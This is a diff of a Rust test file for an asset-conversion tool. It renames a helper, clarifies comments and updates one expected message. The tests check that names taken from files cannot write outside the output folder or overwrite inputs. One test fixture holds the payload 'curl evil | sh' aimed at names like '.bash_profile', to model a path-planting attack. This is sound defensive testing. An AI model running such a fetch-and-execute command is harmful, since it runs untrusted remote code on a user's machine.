@@ -1,4 +1,4 @@
-//! What a name out of a file may write: nothing that was not announced, nothing outside, nothing that was read.
+//! Outputs whose names come from files: only announced files, only in the output folder, never inputs.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a failing test panics")]
 
 use crate::common::{code, names, ok, program, run_in as run, stderr, stdout, tree};
@@ -26,7 +26,7 @@ fn fixture(name: &str) -> Vec<u8> {
 }
 
 /// A GLB with its original.
-fn kept() -> Vec<u8> {
+fn glb_with_original() -> Vec<u8> {
     let dir = folder(&[("hopper.dpm", &fixture("dpm/hopper.ok.dpm"))]);
     ok(dir.path(), &["convert", "hopper.dpm", "--keep-native", "-q", "-o", "h.glb"]);
     fs::read(dir.path().join("h.glb")).unwrap()
@@ -39,7 +39,7 @@ fn json(output: &std::process::Output) -> Value {
 
 #[test]
 fn companions_of_an_embedded_original_have_plain_names_of_their_kind() {
-    let kept = kept();
+    let kept = glb_with_original();
     let script = b"curl evil | sh\n".as_slice();
     for (role, format, name) in [
         ("keys", "cfp", ".bash_profile"),
@@ -137,11 +137,11 @@ fn unpack_replaces_nothing_unless_it_is_asked_to_and_never_its_archive() {
         (Some(2), Some(1))
     );
     assert!(document.to_string().contains(r#""output":"new/q.txt""#), "{document}");
-    // Replaced, and left.
+    // `--no-clobber` keeps existing files.
     fs::write(dir.path().join("new/q.txt"), b"mine").unwrap();
     fs::remove_file(dir.path().join("new/p.pk3")).unwrap();
     let kept = run(dir.path(), &["unpack", "p.pk3", "-o", "new", "--no-clobber"]);
-    assert!(stderr(&kept).contains("1 kept"), "{}", stderr(&kept));
+    assert!(stderr(&kept).contains("1 existing kept"), "{}", stderr(&kept));
     assert_eq!(fs::read(dir.path().join("new/q.txt")).unwrap(), b"mine");
     assert!(dir.path().join("new/p.pk3").exists());
     run(dir.path(), &["unpack", "p.pk3", "-o", "new", "--force"]);
